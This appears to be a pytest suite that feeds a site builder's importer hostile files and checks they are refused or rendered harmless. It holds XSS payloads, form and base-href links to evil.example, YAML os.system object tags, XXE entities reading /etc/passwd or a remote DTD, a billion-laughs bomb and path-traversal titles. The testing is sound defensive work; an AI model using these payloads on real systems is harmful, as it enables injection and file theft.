"""Clippings that nobody means well with: a clear fault or a harmless page, never a crash, never a write outside the site, no script that runs."""

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from import_kit import Said, clip, command, content, stems
from site_kit import SiteKit

from site_builder.importer.sources.decode import MAX_BYTES

pytestmark = pytest.mark.slow
PROSE = "大风吹了一夜，南屿的渡船5日停航一天，岛上的学校也停了课，船工们站在渡口等着风小下去。"
MORE = "镇公所说，票价今年不变，班次也不减，北堤的班车照旧开行，请大家互相转告，不要着急。"


def refused(site: SiteKit, path: Path, code: str) -> Said:
    """The import of a file that is refused with one located fault; nothing is written."""
    before = content(site)
    said = command(site, "--format", "json", path)
    faults = [json.loads(line) for line in said.out.splitlines()]

    assert (1, "") == (said.code, said.err)
    assert [(code, "error", str(path))] == [(fault["code"], fault["severity"], fault["path"]) for fault in faults]
    assert faults[0]["help"]
    assert before == content(site)
    return said


class _Active(HTMLParser):
    """What in a page could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kind = dict(attrs).get("type") or ""
        if tag in ("iframe", "object", "embed", "svg", "math", "base", "form") or (
            tag == "script" and not dict(attrs).get("src") and "json" not in kind
        ):
            self.found.append(tag)
        for name, value in attrs:
            bare = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction") or re.match(r"(?:javascript|vbscript|data|file):", bare):
                self.found.append(f"{tag} {name}={value}")


def check_harmless(site: SiteKit) -> None:
    """Both sites build, and nothing in their pages runs that the theme does not bring along."""
    clean = SiteKit(site.root.parent / f"{site.root.name}-clean")
    for audience in ("public", "editor"):
        usual = active_in(clean, audience)
        assert set(active_in(site, audience)) <= set(usual)


def active_in(site: SiteKit, audience: str) -> list[str]:
    report = site.build(audience)
    assert 0 == report.errors, report.faults
    found: list[str] = []
    for path, data in site.tree().items():
        if path.endswith(".html"):
            parser = _Active()
            parser.feed(data.decode())
            found += parser.found
    return found


# What is no text.


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "clipping-empty"),
        (b" \n\t\r\n", "clipping-empty"),
        (b"\xef\xbb\xbf", "clipping-empty"),
        (b"\x00" * 4000, "clipping-binary"),
        (bytes(range(256)) * 40, "clipping-binary"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "clipping-binary"),
        (b"%PDF-1.7\n" + PROSE.encode(), "clipping-document"),
        (b"PK\x03\x04" + PROSE.encode(), "clipping-binary"),
        (b"\x1b[31m" * 400, "clipping-binary"),
    ],
)
def test_what_is_no_text_is_refused(site, data, code):
    refused(site, clip(site, data), code)


def test_a_file_of_100_megabytes_is_refused_without_being_read_whole(site):
    path = clip(site, b"")
    os.truncate(path, 100 * 1024 * 1024)

    assert "104,857,600 bytes" not in refused(site, path, "clipping-too-large").out
    assert MAX_BYTES < 100 * 1024 * 1024


def test_a_folder_a_missing_file_and_a_pipe_that_is_closed_are_refused(site):
    refused(site, site.root / "content", "clipping-unreadable")
    refused(site, site.root / "none.txt", "clipping-unreadable")
    refused(site, Path("/proc/self/mem"), "clipping-unreadable")


def test_a_file_that_must_not_be_read_is_refused(site, monkeypatch):
    path = clip(site, PROSE)
    opened = Path.open
    monkeypatch.setattr(
        Path,
        "open",
        lambda self, *a, **b: (_ for _ in ()).throw(PermissionError(13, "Permission denied")) if self == path else opened(self, *a, **b),
    )

    assert "Permission denied" in refused(site, path, "clipping-unreadable").out


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030", "utf-16", "big5"])
@pytest.mark.parametrize("cut", [1, 2, 3])
def test_an_encoding_that_breaks_off_is_a_warning_or_a_fault(site, encoding, cut):
    data = f"# 渡船\n\n{PROSE}\n\n{MORE}".encode(encoding, "replace")
    said = command(site, "--format", "json", clip(site, data[:-cut]))

    codes = [json.loads(line)["code"] for line in said.out.splitlines()]
    assert said.code == (0 if stems(site) else 1)
    assert said.code == 0 or {"clipping-encoding", "clipping-binary"} & set(codes)
    check_harmless(site)


# Markup that means harm.

EVIL = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "event": '<p onclick="alert(1)" onmouseover=alert(1)>船</p><img src=x onerror=alert(1)>',
    "javascript link": '<a href="javascript:alert(1)">船</a><a href=" jAvA\tscript:alert(1)">船</a><a href="&#106;avascript:alert(1)">船</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">船</a><img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "frames": '<iframe src="javascript:alert(1)"></iframe><object data=x></object><embed src=x><base href="//evil.example/">',
    "form": '<form action="//evil.example/"><input name=x><button formaction="javascript:alert(1)">船</button></form>',
    "style": "<style>*{background:url(javascript:alert(1))}</style><p style=\"background:url('javascript:alert(1)')\">船</p>",
    "broken": "<p><<script>script>alert(1)<</script>/script><img/src=`x`onerror=alert(1)><a href='javascript:alert(1)'",
    "comment": "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php system('x') ?>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "markdown": "[船](javascript:alert(1)) ![船](javascript:alert(1)) <javascript:alert(1)> [[../../x]] ![](#fig-1) {onclick=alert(1)}",
    "template": "{{ config }} {% include '/etc/passwd' %} ${7*7} <%= 1 %>",
}


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("kind", ["dump", "post", "page", "feed"])
def test_markup_that_means_harm_does_none(site, kind, evil):
    from xml.sax.saxutils import escape

    bad = EVIL[evil]
    text, name = {
        "dump": (f"# 渡船{bad}\n\n{PROSE}{bad}\n\n{bad}\n\n{MORE}", "monday.txt"),
        "post": (f"---\ntitle: {json.dumps('渡船' + bad)}\nauthor: {json.dumps(bad)}\nlink: 'javascript:alert(1)'\nheadimg: 'javascript:alert(1)'\n---\n<p>{PROSE}{bad}</p>{bad}<p>{MORE}</p>", "monday.md"),
        "page": (f"<html><head><title>渡船</title><meta name=author content='{escape(bad)}'></head><body><article><h1>渡船{bad}</h1><p>{PROSE}{bad}</p>{bad}<p>{MORE}</p></article></body></html>", "monday.html"),
        "feed": (f"<rss version='2.0'><channel><title>{escape(bad)}</title><item><title>{escape('渡船' + bad)}</title><link>javascript:alert(1)</link><description>{escape(f'<p>{PROSE}</p>{bad}<p>{MORE}</p>')}</description></item></channel></rss>", "monday.xml"),
    }[kind]  # fmt: skip
    said = command(site, clip(site, text, name))

    assert 0 == said.code, said
    assert 1 == len(stems(site))
    check_harmless(site)


def test_yaml_that_makes_objects_makes_none(site):
    marker = site.root.parent / "made-by-yaml"
    head = f"title: !!python/object/apply:os.system ['touch {marker}']\nauthor: !!python/name:os.system\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b, *b]"
    said = command(site, clip(site, f"---\n{head}\n---\n<p>{PROSE}</p><p>{MORE}</p>", "monday.md"))

    assert said.code in (0, 1)
    assert not marker.exists()
    check_harmless(site)


@pytest.mark.parametrize(
    "bomb",
    [
        '<!DOCTYPE x [<!ENTITY a "船船船船船船船船船船">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
        + "]>",
        '<!DOCTYPE x [<!ENTITY m SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ],
    ids=["billion", "file", "remote"],
)
@pytest.mark.parametrize("kind", ["feed", "page"])
def test_entities_neither_grow_nor_read_files(site, bomb, kind):
    use = "&m;&" + chr(98 + 11) + ";"
    text = {
        "feed": f"<?xml version='1.0'?>{bomb}<rss version='2.0'><channel><title>t</title><item><title>渡船{use}</title><description>{PROSE}{use}</description></item></channel></rss>",
        "page": f"{bomb}<html><head><title>渡船</title></head><body><h1>渡船</h1><p>{PROSE}{use}</p><p>{MORE}</p></body></html>",
    }[kind]
    said = command(site, clip(site, text, "monday.xml" if kind == "feed" else "monday.html"))

    written = b"".join(content(site).values())
    assert said.code in (0, 1)
    assert len(written) < 100_000
    assert b"root:" not in written
    check_harmless(site)


@pytest.mark.parametrize(
    "title",
    [
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "con",
        "%2e%2e%2f",
        "a" * 5000,
        "\u202e",
        "<b>",
        "---",
        "'\"\\",
        ": [x",
        "#",
        "null",
    ],
)
@pytest.mark.parametrize("kind", ["post", "page"])
def test_a_title_leads_nowhere(tmp_path, kind, title):
    site = SiteKit(tmp_path / "desk" / "site")
    text = (
        f"---\ntitle: {json.dumps(title)}\n---\n<p>{PROSE}</p><p>{MORE}</p>"
        if kind == "post"
        else f"<html><head><title>{title}</title></head><body><p>{PROSE}</p><p>{MORE}</p></body></html>"
    )
    clipping = clip(site, text, "monday.md" if kind == "post" else "monday.html")
    said = command(site, clipping)

    (stem,) = stems(site)
    assert 0 == said.code
    assert re.fullmatch(r"[a-z0-9][a-z0-9_-]{0,119}", stem)
    assert {clipping} == {path for path in tmp_path.rglob("*") if path.is_file() and not path.is_relative_to(site.root)}
    check_harmless(site)


# Shapes that no paper has.

SHAPES = {
    "200,000 blank lines": "\n" * 200_000 + PROSE,
    "a sentence, 200,000 blank lines, a sentence": PROSE + "\n" * 200_000 + MORE,
    "nothing but titles": "\n\n".join(f"# 渡船停航第{number}天" for number in range(300)),
    "nothing but short lines": "\n\n".join(f"渡船停航第{number}天" for number in range(300)),
    "nothing but captions": "\n\n".join(f"3月{number % 28 + 1}日，渔民在南屿渡口看船。灯塔社记者 佟小野 摄" for number in range(300)),
    "nothing but notices": "\n\n".join(
        f"遗失声明\n\n白榆城面馆遗失食品经营许可证副本，编号JY1009900000{number:04}，声明作废。" for number in range(300)
    ),
    "nothing but credits": "\n\n".join("据灯塔社" for _ in range(300)),
    "nothing but datelines": "\n\n".join(f"灯塔社南屿3月{number % 28 + 1}日电" for number in range(300)),
    "nothing but boxes": "\n\n".join(f"■{PROSE}" for _ in range(300)),
    "nothing but open halves": "\n\n".join(PROSE[:-9] for _ in range(600)),
    "nothing but marks": "。，、；：？！“”‘’（）《》【】—…·" * 300,
    "nothing but brackets": "（" * 20_000 + "）" * 20_000,
    "nothing but quotation marks": "“" * 40_000,
    "nothing but Han": "".join(chr(0x4E00 + number * 7919 % 20000) for number in range(60_000)),
    "bold marks that close nothing": "**船 " * 20_000,
    "announcements": "有三点：首先" * 10_000,
    "nothing but digits": "1" * 60_000,
    "nothing but letters": "a" * 60_000,
    "nothing but hashes": "#" * 60_000,
    "nothing but stars": "*" * 60_000,
    "nothing but underscores": "_ " * 30_000,
    "nothing but backticks": "`" * 60_000,
    "nothing but blanks in a line": "船" + " " * 100_000 + "船。",
    "nothing but names": "钱大桅 佟小野 " * 4000,
    "one bold word 10,000 times": "**船**" * 10_000,
    "pictures": "![船](http://x.example/a.png)\n" * 3000,
    "bold that never ends": "**船" * 10_000,
    "a front matter that never ends": "---\n" + "title: x\n" * 20_000,
    "20,000 short paragraphs": "\n\n".join(f"第{number}条船照旧开出，风从东面吹来。" for number in range(20_000)),
    "20,000 lines that could be wrapped": "\n".join(PROSE[:25] for _ in range(20_000)),
    "one line of half a million characters": PROSE[:-1] * 12_000,
    "20,000 days": "3月5日，风停了。4月6日，风来了。" * 10_000,
}


@pytest.mark.parametrize("shape", SHAPES)
def test_shapes_that_no_paper_has_come_in_or_are_refused(site, shape):
    said = command(site, clip(site, SHAPES[shape]))

    assert said.code in (0, 1), said.err
    assert "Traceback" not in said.err
    assert said.code == 0 or "error[" in said.err


@pytest.mark.parametrize(
    "shape",
    [
        "nothing but titles",
        "nothing but captions",
        "nothing but notices",
        "nothing but marks",
        "pictures",
        "a front matter that never ends",
        "bold that never ends",
    ],
)
def test_what_came_of_a_strange_shape_builds(site, shape):
    command(site, clip(site, SHAPES[shape]))

    check_harmless(site)


@pytest.mark.parametrize(
    "data",
    [PROSE.encode() * 41_000, ("# " + PROSE * 5000 + "\n\n" + MORE).encode(), ("■" + PROSE * 5000 + "\n\n" + MORE).encode()],
    ids=["a line of 5 MB", "a title", "a box"],
)
def test_a_page_that_nothing_could_read_again_is_refused(site, data):
    path = clip(site, data)
    said = command(site, path)

    assert (1, 1) == (said.code, said.err.count(f"{path}:1: error[clipping-too-large]")) or 0 == said.code
    check_harmless(site)


@pytest.mark.parametrize("tag", ["div", "b", "blockquote", "ul><li", "table><tr><td", "span", "a href=x"])
def test_elements_that_stand_in_each_other_20000_deep(site, tag):
    page = f"<html><body><h1>渡船</h1><p>{PROSE}</p>{f'<{tag}>' * 20_000}{MORE}</body></html>"
    said = command(site, clip(site, page, "monday.html"))

    assert said.code in (0, 1)
    assert "Traceback" not in said.err


@pytest.mark.slow
def test_a_feed_with_100_000_items_is_refused_or_taken(site):
    items = "".join(f"<item><title>渡船{number}</title><description>{PROSE}{number}</description></item>" for number in range(100_000))
    said = command(site, clip(site, f"<rss version='2.0'><channel><title>t</title>{items}</channel></rss>", "monday.xml"))

    assert 1 == said.code
    assert "error[clipping-items]" in said.err or "error[clipping-too-large]" in said.err


@pytest.mark.slow
def test_three_times_the_paragraphs_come_in_too(site):
    said = command(site, clip(site, "\n\n".join(f"第{number}条船照旧开出，风从东面吹来。" for number in range(60_000))))

    assert said.code in (0, 1)
    assert "Traceback" not in said.err
